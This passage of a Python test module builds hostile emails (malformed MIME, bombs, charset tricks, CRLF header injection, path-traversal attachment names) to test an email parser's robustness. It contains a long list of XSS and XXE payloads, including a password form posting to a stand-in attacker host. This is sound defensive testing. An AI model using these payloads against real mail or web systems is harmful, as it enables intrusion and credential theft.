"""Hostile mails of our own making, by the rows of the threat table for what comes in: reading must survive them all.

`mails()` builds them; `tests/channels/email/test_hostile_mails.py` reads them, and any door may be fed with them. What is
expected of a mail stands in `expect`: `subject`, `sender`, `message_id`, `text` and `html` (pieces that must be there),
`absent` (pieces that may stand in neither), `files` (names), `contents` (bytes of the files), `problem` (a piece of one),
`auto`, `spam`, `seal`. The rules of tests/fuzz/rules.py hold for each without being named.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any, NamedTuple

FROM = b"From: Mallory <mallory@evil.example>\r\nTo: help@desk.example\r\n"


class Hostile(NamedTuple):
    """One mail; `kind` is the row of the threat table in words."""

    name: str
    kind: str
    raw: bytes
    expect: dict[str, Any]


def mails() -> list[Hostile]:
    """All of them, each name once."""
    return [
        mail
        for family in (
            _malformed, _boundaries, _encodings, _bombs, _charsets, _dirty_text, _dates, _injections, _identities,
            _markup, _tracking, _names, _contents, _archives, _tnef, _calendars, _sealed, _claims,
        )
        for mail in family()
    ]  # fmt: skip


def plain(headers: bytes, body: bytes) -> bytes:
    return FROM + headers.strip() + b"\r\n\r\n" + body


def html(body: bytes) -> bytes:
    return plain(b"Subject: x\r\nContent-Type: text/html; charset=utf-8", b"<p>hello</p>" + body + b"<p>goodbye</p>")


def mixed(*parts: bytes, kind: bytes = b"mixed", boundary: bytes = b"B") -> bytes:
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return plain(
        b'Subject: x\r\nContent-Type: multipart/%s; boundary="%s"' % (kind, boundary),
        body + b"--" + boundary + b"--\r\n",
    )


def attached(disposition: bytes, content: bytes, kind: bytes = b"application/octet-stream") -> bytes:
    return (
        b"Content-Type: %s\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: %s\r\n\r\n%s"
        % (kind, disposition, base64.encodebytes(content))
    )  # fmt: skip


HELLO = b"Content-Type: text/plain\r\n\r\nhello"


def _family(kind: str, raws: dict[str, tuple[bytes, dict[str, Any]]]) -> Iterator[Hostile]:
    for name, (raw, expect) in raws.items():
        yield Hostile(name, kind, raw, expect)


def _malformed() -> Iterator[Hostile]:
    hi: dict[str, Any] = {"text": ["hello"]}
    yield from _family(
        "1 malformed",
        {
            "nothing at all": (b"", {}),
            "one line end": (b"\r\n", {}),
            "only NUL": (b"\0" * 1000, {}),
            "only white space": (b" \t" * 1000, {}),
            "random bytes": (bytes(range(256)) * 20, {}),
            "only headers": (FROM, {"sender": "mallory@evil.example"}),
            "no headers": (b"\r\nhello", hi),
            "a body without headers or blank line": (b"hello there, no header here\r\nsecond line\r\n", hi),
            "byte order mark": (b"\xef\xbb\xbf" + plain(b"Subject: x", b"hello"), hi | {"subject": "x"}),
            "mbox line": (b"From evil Mon Jun  1 10:00:00 2026\r\n" + plain(b"Subject: x", b"hello"), hi | {"subject": "x"}),
            "quoted mbox line": (b">From evil Mon Jun  1\r\n" + plain(b"Subject: x", b"hello"), hi | {"subject": "x"}),
            "bare carriage returns": (plain(b"Subject: x", b"hello").replace(b"\r\n", b"\r"), hi | {"subject": "x"}),
            "doubled carriage returns": (plain(b"Subject: x", b"hello").replace(b"\r\n", b"\r\r\n"), hi | {"subject": "x"}),
            "bare line feeds": (plain(b"Subject: x", b"hello").replace(b"\r\n", b"\n"), hi | {"subject": "x"}),
            "no blank line": (FROM + b"Subject: x\r\nhello you\r\nthere\r\n", hi | {"problem": "no blank line"}),
            "a stray line": (FROM + b"stray line\r\nSubject: x\r\n\r\nhello", hi | {"subject": "x", "problem": "no header"}),
            "continuation first": (b" folded\r\n" + plain(b"Subject: x", b"hello"), hi),
            "white line in a field": (plain(b"Subject: x\r\n \r\n y", b"hello"), hi | {"subject": "x y"}),
            "space before colon": (plain(b"Subject : x", b"hello"), hi | {"subject": "x"}),
            "header of NULs": (plain(b"Subject: x\0y", b"hello"), hi | {"subject": "xy"}),
            "two From": (plain(b"From: other@evil.example", b"hello"), {"sender": "mallory@evil.example", "problem": "from"}),
            "two Subject": (plain(b"Subject: x\r\nSubject: y", b"hello"), {"subject": "x", "problem": "subject"}),
            "several authors": (b"From: a@x.example, b@x.example\r\n\r\nhello", {"sender": "a@x.example", "problem": "several"}),
            "no From": (b"Subject: x\r\n\r\nhello", hi | {"problem": "From"}),
            "From in brackets only": (b"From: <>\r\n\r\nhello", hi | {"problem": "From"}),
            "From of an encoded address": (b"From: =?utf-8?q?a=40x.example?=\r\n\r\nhello", hi),
            "address never closed": (b'From: "Mallory <m@x.example\r\n\r\nhello', hi | {"sender": "m@x.example"}),
            "two brackets": (b"From: M <<m@x.example>>\r\n\r\nhello", hi | {"sender": "m@x.example"}),
            "group of nobody": (plain(b"Cc: undisclosed-recipients:;", b"hello"), hi),
            "Content-Type of nothing": (plain(b"Content-Type:", b"hello"), hi),
            "Content-Type of a word": (plain(b"Content-Type: text", b"hello"), hi),
            "Content-Type of a slash": (plain(b"Content-Type: /;;;=;", b"hello"), hi),
            "Content-Type with markup": (plain(b"Content-Type: <script>/<script>", b"hello"), hi),
            "two Content-Types": (plain(b"Content-Type: text/plain\r\nContent-Type: image/png", b"hello"), hi),
            "parameter never closed": (plain(b'Content-Type: text/plain; charset="utf-8', b"hello"), hi),
            "no semicolon": (plain(b"Content-Type: text/html charset=utf-8", b"<p>h\xc3\xa9llo</p>"), {"text": ["héllo"]}),
            "unfolded as IMAP gives it": (plain(b"Subject: a" + b" b" * 5000, b"hello"), hi),
            "wrapped in another mail": (
                plain(b"Content-Type: message/rfc822", plain(b"Subject: inner", b"hello")), hi | {"problem": "wrapped"}),
            "wrapped and encoded": (
                plain(b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64",
                      base64.encodebytes(plain(b"Subject: inner", b"hello"))), hi),
            "message/rfc822 of nothing": (mixed(HELLO, b"Content-Type: message/rfc822\r\n\r\n"), hi),
            "message/partial": (
                plain(b"Content-Type: message/partial; id=a; number=1; total=9", plain(b"Subject: y", b"hello")),
                hi | {"problem": "piece 1 of 9"}),
            "message/external-body": (
                mixed(HELLO, b"Content-Type: message/external-body; access-type=local-file; name=/etc/passwd\r\n\r\n"
                             b"Content-Type: text/plain\r\n\r\n"), hi | {"problem": "not sent", "absent": ["root:"]}),
            "digest": (mixed(b"\r\n" + plain(b"Subject: one", b"a"), b"\r\n" + plain(b"Subject: two", b"b"), kind=b"digest"),
                       {"files": ["one.eml", "two.eml"]}),
        },
    )  # fmt: skip


def _boundaries() -> Iterator[Hostile]:
    head = b"Subject: x\r\nContent-Type: multipart/mixed"
    body = b"--B\r\n" + HELLO + b"\r\n--B--\r\n"
    hi: dict[str, Any] = {"text": ["hello"]}
    yield from _family(
        "1 boundaries",
        {
            "boundary missing": (plain(head, body), hi | {"problem": "boundary"}),
            "boundary empty": (plain(head + b'; boundary=""', body), hi),
            "boundary wrong": (plain(head + b"; boundary=other", body), hi | {"problem": "boundary"}),
            "boundary with spaces behind": (plain(head + b'; boundary="B  "', body), hi),
            "boundary in capitals": (plain(head + b"; BOUNDARY=B", body), hi),
            "boundary of pattern marks": (mixed(HELLO, boundary=b".*+?(["), hi),
            "boundary of 200 letters": (mixed(HELLO, boundary=b"x" * 200), hi),
            "boundary of two dashes": (mixed(HELLO, boundary=b"--"), hi),
            "boundary twice": (plain(head + b"; boundary=other; boundary=B", body), hi),
            "boundary in eight bits": (mixed(HELLO, boundary="Grüße".encode()), hi),
            "not closed": (plain(head + b"; boundary=B", body[:-7]), hi | {"problem": "closing"}),
            "closed at once": (plain(head + b"; boundary=B", b"--B--\r\nhello\r\n"), hi),
            "text before the first": (plain(head + b"; boundary=B", b"hello\r\n--B--\r\n"), hi),
            "nested with the same boundary": (
                mixed(b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n" + HELLO + b"\r\n--B--"), hi),
            "nested with a longer one": (
                mixed(b"Content-Type: multipart/mixed; boundary=B2\r\n\r\n--B2\r\n" + HELLO + b"\r\n--B2--"), hi),
            "nested with dashes behind": (
                plain(b"Content-Type: multipart/mixed; boundary=a--",
                      b"--a--\r\nContent-Type: multipart/mixed; boundary=a----\r\n\r\n--a----\r\n"
                      + HELLO + b"\r\n--a------\r\n--a----\r\n"), hi),
            "similar lines in the text": (mixed(HELLO + b"\r\n--Bx\r\n-- B\r\n--B-"), hi),
            "the multipart is base64": (
                plain(b"Content-Transfer-Encoding: base64\r\nContent-Type: multipart/mixed; boundary=B",
                      base64.encodebytes(body)), hi | {"problem": "encoded"}),
            "bare line feed before it": (plain(head + b"; boundary=B", body.replace(b"\r\n", b"\n")), hi),
            "alternative of nothing": (mixed(kind=b"alternative"), {}),
        },
    )  # fmt: skip


def _encodings() -> Iterator[Hostile]:
    def body(encoding: bytes, data: bytes) -> bytes:
        return plain(b"Subject: x\r\nContent-Transfer-Encoding: " + encoding, data)

    encoded = base64.b64encode(b"hello there")
    hi: dict[str, Any] = {"text": ["hello"]}
    uu = b"begin 644 a.txt\r\n" + binascii.b2a_uu(b"secret") + b"`\r\nend\r\n"
    yield from _family(
        "1 transfer encodings",
        {
            "base64 with spaces": (body(b"base64", b" ".join(encoded[n : n + 4] for n in range(0, 16, 4)).replace(b" ", b"\r\n ")), hi),
            "base64 without padding": (body(b"base64", encoded.rstrip(b"=")), hi),
            "base64 with a letter too many": (body(b"base64", encoded.rstrip(b"=") + b"=A"), hi),
            "base64 with rubbish": (body(b"base64", b"!!" + encoded[:8] + b"%%" + encoded[8:]), hi),
            "base64 in two": (body(b"base64", base64.b64encode(b"hello") + b"\r\n" + base64.b64encode(b"again")), hi),
            "base64 that is none": (body(b"base64", b"hello, this was never encoded at all."), hi | {"problem": "base64"}),
            "base64 said with a comment": (body(b"Base64 ; x", encoded), hi),
            "quoted-printable of bad escapes": (body(b"quoted-printable", b"=ZZ=hello=\r\n=4"), hi),
            "quoted-printable ends in an escape": (body(b"quoted-printable", b"hello="), hi),
            "unknown encoding": (body(b"x-rot13", b"hello"), hi),
            "two encodings": (plain(b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64", b"hello"), hi),
            "uuencoded in the text": (plain(b"Subject: x", b"hello\r\n" + uu), hi | {"files": ["a.txt"], "contents": [b"secret"]}),
            "uuencoded without end": (plain(b"Subject: x", b"hello\r\n" + uu[:-5]), hi),
            "uuencoded path": (plain(b"Subject: x", b"hello\r\n" + uu.replace(b"a.txt", b"../../etc/a.txt")), {"files": ["etc_a.txt"]}),
            "uuencoded part": (mixed(HELLO, b"Content-Type: image/gif; name=a.gif\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\n" + uu),
                               {"files": ["a.gif"], "contents": [b"secret"]}),
            "yEnc": (plain(b"Subject: x", b"hello\r\n=ybegin line=128 size=3 name=a\r\n\x9b\x9c\x9d\r\n=yend size=3\r\n"), hi),
        },
    )  # fmt: skip


def _bombs() -> Iterator[Hostile]:
    nested = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(2000))
    messages = b"Content-Type: message/rfc822\r\n\r\n" * 5000
    kind = "2 bombs"
    yield from _family(
        kind,
        {
            "2,000 levels of multiparts": (FROM + nested + HELLO, {"problem": "nested"}),
            "5,000 levels of messages": (FROM + messages + b"\r\nhello", {}),
            "20,000 parts": (mixed(*[b"\r\nx"] * 20_000), {"problem": "1000 parts"}),
            "100,000 headers": (FROM + b"X-A: b\r\n" * 100_000 + b"\r\nhello", {"problem": "too many headers", "text": ["hello"]}),
            "a header of 1 MB": (plain(b"Subject: " + b"a" * 1_000_000, b"hello"), {}),
            "100,000 encoded words": (plain(b"Subject: " + b"=?utf-8?b?4oI=?= " * 100_000, b"hello"), {}),
            "100,000 halves of encoded words": (plain(b"Subject: " + b"=?utf-8?q?" * 100_000, b"hello"), {}),
            "100,000 folds": (plain(b"Subject: a" + b"\r\n b" * 100_000, b"hello"), {}),
            "100,000 addresses": (plain(b"Cc: " + b"a@b.example, " * 100_000, b"hello"), {"problem": "500 addresses"}),
            "500,000 brackets": (plain(b"Cc: " + b"<" * 250_000 + b"(" * 250_000, b"hello"), {}),
            "100,000 parameters": (plain(b"Content-Type: text/plain" + b"; a*0*=b" * 100_000, b"hello"), {}),
            "100,000 references": (plain(b"References: " + b"<a@b.example> " * 100_000, b"hello"), {}),
            "100,000 boundaries almost": (mixed(b"\r\n" + b"\r\n--Bx" * 100_000), {}),
            "a line of 2 MB": (plain(b"Subject: x", b"hello " * 350_000), {"text": ["hello"]}),
            "500,000 quote marks": (plain(b"Subject: x", b"hello\r\n" + b">" * 500_000), {"text": ["hello"]}),
            "100,000 quoted lines": (plain(b"Subject: x", b"hello\r\n" + b"> a\r\n>> b\r\n" * 50_000), {"text": ["hello"]}),
            "100,000 quote headers": (plain(b"Subject: x", b"On Mon, A wrote\r\n" * 100_000), {}),
            "100,000 uuencode starts": (plain(b"Subject: x", b"begin 644 a\r\n!!!\r\n" * 60_000), {}),
            "100,000 open tags": (html(b"<div>" * 100_000), {"text": ["hello"]}),
            "100,000 formatting tags": (html(b"<b><i><a href=x>" * 30_000), {"text": ["hello"]}),
            "100,000 attributes": (html(b"<p " + b"a=b " * 100_000 + b">x</p>"), {"text": ["hello"]}),
            "a table of 100,000 cells": (html(b"<table><tr>" + b"<td>" * 100_000), {"text": ["hello"]}),
            "an entity of 1 MB": (html(b"&" + b"a" * 1_000_000 + b";"), {"text": ["hello"]}),
            "comments never closed": (html(b"<!--" * 100_000), {"text": ["hello"]}),
            "Word conditionals": (html(b"<!--[if gte mso 9]><xml><o:p>" * 30_000), {"text": ["hello"]}),
            "100,000 styles": (html(b'<p style="color:red;">x</p>' * 30_000), {"text": ["hello"]}),
            "flowed and deep": (plain(b"Content-Type: text/plain; format=flowed", b"hello\r\n" + b">> a \r\n> b \r\n" * 50_000), {}),
        },
    )  # fmt: skip


def _charsets() -> Iterator[Hostile]:
    german, russian, japanese, chinese = (
        "Grüße aus Köln",
        "Привет из Москвы, друзья мои",
        "こんにちは、世界",
        "你好，世界",
    )
    cases = [
        ("utf-8", german, "utf-8"), ("UTF8", german, "utf-8"), ("'utf-8'", german, "utf-8"), ("utf-8; x", german, "utf-8"),
        ("iso-8859-1", german, "cp1252"), ("iso-8859-1", german, "utf-8"), ("us-ascii", german, "utf-8"),
        ("x-unknown", german, "utf-8"), ("", german, "utf-8"), ("utf-8", german, "cp1252"), ("utf-16", german, "utf-16"),
        ("utf-16", german, "utf-8"), ("utf-7", german, "utf-7"), ("unicode-1-1-utf-7", german, "utf-7"),
        ("macintosh", german, "mac_roman"), ("cp850", german, "cp850"), ("ebcdic-cp-us", german, "utf-8"),
        ("koi8-r", russian, "koi8-r"), ("koi8-u", "Привіт, ґанку", "koi8-u"), ("windows-1251", russian, "cp1251"),
        ("win-1251", russian, "cp1251"), ("x-mac-cyrillic", russian, "mac_cyrillic"), ("iso-8859-5", russian, "iso-8859-5"),
        ("utf-8", russian, "koi8-r"), ("", russian, "cp1251"), ("iso-2022-jp", japanese, "iso2022_jp"),
        ("shift_jis", japanese, "cp932"), ("euc-jp", japanese, "euc_jp"), ("x-sjis", japanese, "cp932"),
        ("cp50221", japanese, "iso2022_jp"), ("us-ascii", japanese, "iso2022_jp"), ("gb2312", chinese, "gb18030"),
        ("gbk", chinese, "gbk"), ("hz-gb-2312", chinese, "hz"), ("big5", "你好世界香港啲", "big5hkscs"),
        ("euc-kr", "안녕하세요", "euc_kr"), ("ks_c_5601-1987", "안녕하세요 똠방", "cp949"), ("iso-2022-kr", "안녕하세요", "iso2022_kr"),
        ("windows-874", "สวัสดีครับ", "cp874"), ("tis-620", "สวัสดีครับ", "cp874"), ("windows-1255", "שלום לכם", "cp1255"),
        ("iso-8859-8-i", "שלום לכם", "iso-8859-8"), ("windows-1256", "مرحبا بكم", "cp1256"), ("viscii", "hello", "ascii"),
    ]  # fmt: skip
    for place, (declared, text, codec) in enumerate(cases):
        raw = plain(b"Subject: x\r\nContent-Type: text/plain; charset=" + declared.encode(), text.encode(codec))
        yield Hostile(f"{declared or 'none'} is {codec} ({place})", "3 charsets", raw, {"text": [text]})
    for name in (
        "idna",
        "punycode",
        "rot13",
        "base64",
        "zlib",
        "bz2",
        "unicode_escape",
        "undefined",
        "mbcs",
        "x" * 5000,
    ):
        raw = plain(b"Subject: x\r\nContent-Type: text/plain; charset=" + name.encode(), b"hello \\x41 +AGE-")
        yield Hostile(f"charset {name[:20]}", "3 charsets", raw, {"text": ["hello"]})


def _dirty_text() -> Iterator[Hostile]:
    def words(data: bytes) -> bytes:
        return plain(b"Subject: x\r\nContent-Type: text/plain; charset=utf-8", b"hello " + data + b" there")

    both: dict[str, Any] = {"text": ["hello", "there"]}
    yield from _family(
        "3 dirty text",
        {
            "NUL in the text": (words(b"a\0b"), both | {"text": ["ab"]}),
            "lone surrogate": (words(b"\xed\xa0\x80"), both),
            "pair of surrogates": (words(b"\xed\xa0\xbd\xed\xb8\x80"), both),
            "overlong": (words(b"\xc0\xaf\xe0\x80\xaf"), both),
            "beyond Unicode": (words(b"\xf4\x90\x80\x80\xff\xfe"), both),
            "controls": (words(bytes(range(32)) + b"\x7f\xc2\x80\xc2\x9f"), {"text": ["hello"]}),
            "escape sequences": (words(b"\x1b[31mred\x1b[0m\x1b]0;title\x07"), both),
            "cut character": (plain(b"Content-Type: text/plain; charset=utf-8", "Grüße, schöne Größe, Köln ü".encode()[:-1]),
                              {"text": ["Grüße, schöne Größe, Köln"]}),
            "surrogate in UTF-16": (plain(b"Content-Type: text/plain; charset=utf-16-le", b"\x00\xd8h\0e\0"), {}),
            "NUL reference in HTML": (html(b"&#0;&#x0;&#xd800;&#4;&#x80;"), both | {"text": ["hello"]}),
            "direction marks": (words("\u202egnp.exe\u202c".encode()), both),
            "zalgo": (words(("a" + "\u0300" * 5000).encode()), both),
            "encoded NUL": (plain(b"Subject: =?utf-8?q?a=00b?=", b"hello"), {"subject": "ab"}),
            "encoded surrogate": (plain(b"Subject: =?utf-8?b?7aCA?=", b"hello"), {"text": ["hello"]}),
            "split character": (plain(b"Subject: =?utf-8?b?4oI=?= =?utf-8?b?rA==?=", b"hello"), {"subject": "€"}),
            "word with spaces": (plain(b"Subject: =?utf-8?q?a b c?=", b"hello"), {"subject": "a b c"}),
            "word without end": (plain(b"Subject: =?utf-8?q?a_b", b"hello"), {"subject": "a b"}),
            "word of an unknown charset": (plain(b"Subject: =?x-no?q?caf=C3=A9?=", b"hello"), {"subject": "café"}),
            "word without a charset": (plain(b"Subject: =??q?caf=C3=A9?=", b"hello"), {"subject": "café"}),
            "word of an unknown encoding": (plain(b"Subject: =?utf-8?x?abc?=", b"hello"), {"subject": "=?utf-8?x?abc?="}),
            "word in a quoted string": (b'From: "=?utf-8?q?J=C3=BC?=" <j@x.example>\r\n\r\nhello', {"sender": "j@x.example"}),
            "raw eight bits": (plain("Subject: Grüße".encode("latin-1"), b"hello"), {"subject": "Grüße"}),
            "raw and encoded": (plain("Subject: Grüße =?utf-8?q?=C3=A9?=".encode(), b"hello"), {"subject": "Grüße é"}),
        },
    )  # fmt: skip


def _dates() -> Iterator[Hostile]:
    for value in (
        "Fri, 31 Dec 9999 23:59:59 -1200", "Thu, 1 Jan 0001 00:00:00 +1400", "Mon, 1 Jun 99999999999 10:00:00 +0000",
        "Mon, 1 Jun 2026 99:99:99 +9999", "Mon, 31 Feb 2026 00:00:00 +0000", "Mon, 1 Jun 2026 10:00:00 +99999999999999",
        "-1", "0", "١ يونيو ٢٠٢٦", "NaN", "Mon, 1 Jun -5 10:00:00", "1 " * 2000,
    ):  # fmt: skip
        yield Hostile(f"date {value[:40]}", "3 dates", plain(b"Date: " + value.encode(), b"hello"), {"text": ["hello"]})


def _injections() -> Iterator[Hostile]:
    """Decoded words that would begin a new line in a header, a log or a form."""
    breaks = {
        "CRLF": b"=0D=0A", "LF": b"=0A", "CR": b"=0D", "NEL": b"=C2=85", "line separator": b"=E2=80=A8",
        "paragraph separator": b"=E2=80=A9", "vertical tab": b"=0B",
    }  # fmt: skip
    for name, mark in breaks.items():
        word = b"=?utf-8?q?a" + mark + b"Bcc:_victim=40x.example?="
        raw = (
            b"From: "
            + word
            + b" <m@x.example>\r\nCc: "
            + word
            + b" <n@x.example>\r\nSubject: "
            + word
            + b"\r\n\r\nhello"
        )
        yield Hostile(f"{name} in words", "9 header injection", raw, {"sender": "m@x.example"})
    for field in (b"Message-ID", b"In-Reply-To", b"References", b"Reply-To"):
        raw = plain(field + b": <a\r\n\tb=?utf-8?q?=0D=0ABcc:?=@x.example>", b"hello")
        yield Hostile(f"line break in {field.decode()}", "9 header injection", raw, {})
    for name, disposition in {
        "in a file name": b'attachment; filename="=?utf-8?q?a=0D=0ASet-Cookie:_x=0D=0A.txt?="',
        "in an extended file name": b"attachment; filename*=utf-8''a%0d%0aSet-Cookie:%20x.txt",
        "in a continued file name": b"attachment; filename*0*=utf-8''a%0d; filename*1*=%0ab.txt",
    }.items():
        raw = mixed(HELLO, attached(disposition, b"x"))
        yield Hostile(f"line break {name}", "9 header injection", raw, {"text": ["hello"]})
    raw = mixed(HELLO, attached(b"inline", b"x", b"image/png\r\nContent-ID: <a=?utf-8?q?=0A?=\r\n b>"))
    yield Hostile("line break in a Content-ID", "9 header injection", raw, {"text": ["hello"]})


def _identities() -> Iterator[Hostile]:
    head = b"Subject: x\r\nMessage-ID: <same@evil.example>"
    one: dict[str, Any] = {"message_id": "same@evil.example"}
    yield from _family(
        "10 Message-ID",
        {
            "same id, first text": (plain(head, b"hello"), one | {"text": ["hello"]}),
            "same id, other text": (plain(head, b"something else"), one | {"text": ["something else"]}),
            "two ids": (
                plain(head + b"\r\nMessage-ID: <other@evil.example>", b"hello"),
                one | {"problem": "message-id"},
            ),
            "id without brackets": (plain(b"Message-ID: same@evil.example", b"hello"), one),
            "id with spaces": (plain(b"Message-ID: < same@ evil.example >", b"hello"), one),
            "id of 100,000 letters": (plain(b"Message-ID: <" + b"a" * 100_000 + b"@x>", b"hello"), {"text": ["hello"]}),
            "id of nothing": (plain(b"Message-ID: <>", b"hello"), {"message_id": ""}),
            "references of rubbish": (plain(b"References: <<<>>> <a <b> c", b"hello"), {"text": ["hello"]}),
        },
    )


_PAYLOADS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x></sCrIpT>
<script/x>alert(1)</script/x>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x onerror
=alert(1)>
<img/src=x/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<applet code=x></applet>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x>
<style>@import url(//evil.example/x);body{background:url(//evil.example/y)}</style>
<p style="background:url(//evil.example/x)">x</p>
<p style="background:u\\72l(//evil.example/x)">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(//evil.example/x)">x</p>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">Your session has ended</div>
<div style="position:absolute;inset:0">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example">x</a>
<a href="/admin/delete">x</a>
<a target=_top href=https://evil.example>https://bank.example</a>
<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>
<input onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus></textarea>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<table background=javascript:alert(1)><tr><td background=//evil.example/x>x</td></tr></table>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src=x:x onerror=alert(1) name=getElementById>
<img name=cookie><form name=body><input id=attributes></form>
<a id=location><a id=location name=href href=https://evil.example>x</a>
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<xss style="behavior:url(x)">x</xss>
<title><img src=x onerror=alert(1)></title>
<plaintext>
<xmp><img src=x onerror=alert(1)></xmp>
<p id="</p><img src=x onerror=alert(1)>">x</p>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<img src="x` `<script>alert(1)</script>"` `>
<a href="https://evil.example" onclick="alert(1)" style="color:red" class="gmail_quote x" id="main">x</a>
"""


def _markup() -> Iterator[Hostile]:
    swallowing = (
        "<plaintext>",
        "<noscript><p",
        "<select>",
        "<svg></p>",
        "<math>",
        "<form><math>",
        "<textarea",
        "<title>",
    )
    for place, payload in enumerate(_PAYLOADS.strip("\n").replace("onerror\n=", "onerror\v=").split("\n")):
        source = payload.replace("onerror\v=", "onerror\n=")
        text = ["hello"] if source.startswith(swallowing) else ["hello", "goodbye"]
        yield Hostile(
            f"markup {place} {source[:40]}", "19 markup", html(source.encode()),
            {"text": text, "absent": ["<script", "javascript:", "<form", "<input", "<style", "<iframe", "position:"]},
        )  # fmt: skip


def _tracking() -> Iterator[Hostile]:
    pixel = b'<img src="https://evil.example/t.gif" width=1 height=1>'
    cid = b'<img src="cid:pic@x"><img src="logo.png"><img src="https://x.example/a.png">'
    related = mixed(
        b"Content-Type: text/html\r\nContent-Location: https://x.example/\r\n\r\n<p>hello</p>" + cid,
        attached(b"inline", b"\x89PNG one", b"image/png\r\nContent-ID: <pic@x>"),
        attached(b"inline; filename=logo.png", b"\x89PNG two", b"image/png"),
        attached(b"inline", b"\x89PNG three", b"image/png\r\nContent-Location: a.png"),
        kind=b"related",
    )
    yield Hostile("a pixel that tells", "20 tracking", html(pixel), {"text": ["hello"]})
    yield Hostile("pictures by every name", "20 tracking", related, {
        "html": ['src="cid:pic@x"', 'src="cid:picture-1@location"', 'src="cid:picture-2@location"'],
        "absent": ["https://x.example/a.png"],
    })  # fmt: skip


def _names() -> Iterator[Hostile]:
    for name, wanted in {
        "../../etc/passwd": "etc_passwd", "..\\..\\windows\\win.ini": "windows_win.ini", "/etc/passwd": "etc_passwd",
        "C:\\boot.ini": "C__boot.ini", "a/b.txt": "a_b.txt", "....//....//x": "x", "invoice.pdf\u202efdp.exe": "invoice.pdffdp.exe",
        "\u200b.htaccess": "htaccess", ".htaccess": "htaccess", "..": "", ".": "", "": "", " ": "", "con.txt": "con.txt",
        "a\0b.txt": "ab.txt", "a\tb.txt": "a b.txt", "a.txt\u200e": "a.txt", "a.exe ": "a.exe", "a.txt.": "a.txt",
        "<script>alert(1)<_script>.txt": "<script>alert(1)<_script>.txt", "a\u2028b.txt": "a b.txt", "ａ．ｔｘｔ": "a.txt",
        "x" * 5000 + ".pdf": "x" * 251 + ".pdf", "é" * 300 + ".pdf": "é" * 125 + ".pdf", "x." + "y" * 300: "x." + "y" * 253,
        "invoice.pdf.exe": "invoice.pdf.exe", "💥.txt": "💥.txt", "\ufeff\u2066evil\u2069.js": "evil.js",
    }.items():  # fmt: skip
        disposition = b"attachment; filename*=utf-8''" + "".join(f"%{mark:02X}" for mark in name.encode()).encode()
        expect: dict[str, Any] = {"text": ["hello"]} | ({"files": [wanted]} if wanted else {})
        yield Hostile(f"name {name[:30]!r}", "22 names", mixed(HELLO, attached(disposition, b"x")), expect)
    for name, field, wanted in (
        ("raw eight bits", 'attachment; filename="Größe.txt"'.encode("latin-1"), "Größe.txt"),
        ("raw UTF-8", 'attachment; filename="Größe.txt"'.encode(), "Größe.txt"),
        ("encoded word", b'attachment; filename="=?utf-8?q?Gr=C3=B6=C3=9Fe.txt?="', "Größe.txt"),
        ("both forms", b"attachment; filename=a.txt; filename*=utf-8''b.txt", "b.txt"),
        ("pieces out of order", b"attachment; filename*1=b.txt; filename*0=a", "ab.txt"),
        ("pieces of mixed kinds", b"attachment; filename*0*=utf-8''Gr%C3%B6; filename*1=\"ss.txt\"", "Gröss.txt"),
        ("piece missing", b"attachment; filename*0=a; filename*2=c.txt", "ac.txt"),
        ("unknown charset", b"attachment; filename*=x-no''caf%C3%A9.txt", "café.txt"),
        ("bad escapes", b"attachment; filename*=utf-8''a%ZZ%4.txt", "a%ZZ%4.txt"),
        ("no quotes", b"attachment; filename=two words.txt", "two words.txt"),
        ("disposition of nothing", b"; filename=a.txt", "a.txt"),
    ):
        raw = mixed(HELLO, attached(field, b"x"))
